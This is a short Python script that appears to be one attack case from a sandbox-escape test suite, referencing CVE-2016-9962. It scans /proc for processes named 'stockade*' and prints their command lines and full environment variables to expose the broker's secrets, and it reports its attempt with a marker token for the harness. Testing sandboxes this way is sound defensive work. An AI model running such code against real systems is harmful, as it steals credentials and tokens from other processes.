# family: injection
# tries: find the sandbox's own processes (argv[0] named stockade*) through /proc and print their environments: the broker runs with the caller's secrets in its environment
# source: https://nvd.nist.gov/vuln/detail/CVE-2016-9962
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
import os
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
found = 0
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            cmdline = f.read()
    except OSError:
        continue
    if not os.path.basename(cmdline.split(b"\0")[0]).startswith(b"stockade"):
        continue
    found += 1
    shown = cmdline.replace(b"\0", b" ").decode(errors="replace")[:200]
    print(f"--- {pid}: {shown}")
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            print(f.read(1 << 16).replace(b"\0", b"\n").decode(errors="replace"))
    except OSError as e:
        print(f"environ: {e.strerror}")
print(f"{found} stockade processes seen")
